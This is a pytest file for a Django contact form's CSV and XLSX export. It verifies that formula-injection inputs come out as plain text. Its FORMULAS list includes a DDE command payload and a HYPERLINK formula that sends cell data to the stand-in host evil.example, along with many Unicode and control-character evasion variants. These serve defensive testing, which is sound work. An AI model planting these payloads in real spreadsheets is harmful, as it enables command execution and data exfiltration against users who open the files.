"""A spreadsheet that opens an export calculates nothing in it: what was written is text."""

import io
import re
import zipfile
from typing import Any

import pytest
from django.test import Client
from openpyxl import Workbook

from contact.intake import submit
from contact.queue.export.files import as_csv, as_xlsx, neutral
from tests.contact.exports import by_head, cells, export, sheet

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    '"=1+1"',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
    "\x00=1+1",
    "\x1b=1+1",
    "\u202e=1+1",
    "\ud800=1+1",
    "\ufffe=1+1",
    "{=1+1}",
    "#N/A",
    "#REF!",
    "_x003D_1+1",
]
INNER = ["x;=1+1", "x\t=1+1", "x\n=1+1", 'x;"=1+1"', "x; +1"]
"""Where a program takes the semicolon or the tab for what parts cells, a cell begins within."""


def first_sign(text: str) -> str:
    """What a spreadsheet meets first."""
    return re.sub(r"[\s\"\u200b\ufeff]", "", text)[:1]


def is_text(cell: Any) -> bool:
    """Written into the cell itself as a string, with the mark that keeps it one when edited."""
    return cell.data_type in ("s", "inlineStr") and cell.quotePrefix and type(cell.value) is str


@pytest.mark.parametrize("formula", FORMULAS)
def test_in_csv_an_apostrophe_stands_before_it(formula: str) -> None:
    shown = neutral(formula)
    assert first_sign(shown) not in set("=+-@\uff1d\uff0b\uff0d\uff20\u2212"), shown
    assert shown[:1] not in ("\t", "\r", "\n")


@pytest.mark.parametrize("formula", INNER)
def test_nor_does_a_cell_begin_within_a_text(formula: str) -> None:
    for part in re.split(r"[;\t\n]", neutral(formula)):
        assert first_sign(part) not in set("=+-@")


@pytest.mark.parametrize(
    "words",
    ["", "My daughter", "a = b", "1-2", "x, -y", "me@example.org", "O'Hara", "(570) 555-0123", "é"],
)
def test_what_is_no_formula_stays_as_it_was(words: str) -> None:
    assert neutral(words) == words


@pytest.mark.parametrize("formula", FORMULAS + INNER)
def test_in_xlsx_it_is_text_when_it_is_opened(formula: str) -> None:
    content = as_xlsx(formula, [formula], [[formula, "plain", ""]])
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert parts.testzip() is None
        xml = parts.read("xl/worksheets/sheet1.xml").decode()
        styles = parts.read("xl/styles.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml
    assert set(re.findall(r'<c\b[^>]* t="(\w+)"', xml)) <= {"inlineStr", "n"}, "n: a merged cell"
    assert 'quotePrefix="1"' in styles

    class Answer:
        headers = {"Content-Type": "xlsx"}

    Answer.content = content
    for cell in (sheet(Answer)["A1"], sheet(Answer)["A2"], sheet(Answer)["A3"]):
        assert is_text(cell)
        assert re.sub(r"[\x00-\x08\x0b-\x1f\u202e\ud800\ufffe]", "\n", formula).strip(
            "\n"
        ) == cell.value.strip("\n")


def test_without_the_guard_a_formula_would_be_one() -> None:
    """What this guards against is real: openpyxl makes a formula of such a text by itself."""
    book = Workbook()
    book.active["A1"] = "=1+1"
    assert book.active["A1"].data_type == "f"


def test_of_what_a_person_wrote(db: None, exporter: Client) -> None:
    """Sealed past the form, so that every field carries it; nothing is refused or left out."""
    fields = ("name", "email", "phone", "message", "insurer", "best_time", "seeking_for")
    for n, formula in enumerate(FORMULAS + INNER):
        submit(dict.fromkeys(fields, formula) | {"contact_method": str(n)}, language="en")
    answer = export(exporter, "xlsx")
    assert answer.status_code == 200
    found = [cell for row in sheet(answer).iter_rows() for cell in row if cell.value]
    assert len(found) > 7 * len(FORMULAS + INNER)
    assert all(is_text(cell) for cell in found)
    answer = export(exporter, "csv")
    assert answer.status_code == 200
    assert all(row["Message"] for row in by_head(answer))
    signs = [first_sign(cell) for line in cells(answer) for cell in line]
    assert not set(signs) & set("=+-@\uff1d\uff0b\uff0d\uff20\u2212")


def test_a_number_stays_readable(db: None, exporter: Client) -> None:
    submit({"phone": "+1 570-555-0123"}, language="en")
    (row,) = by_head(export(exporter, "csv"))
    assert row["Phone"] == "'+1 570-555-0123"
    (row,) = by_head(export(exporter, "xlsx"))
    assert row["Phone"] == "+1 570-555-0123"


def test_a_cell_is_no_longer_than_xlsx_takes(db: None) -> None:
    long = "x" * 40_000
    assert as_csv("notice", ["head"], [[long]]).decode().count("x") == 40_000
    assert as_xlsx("notice", ["head"], [[long]])
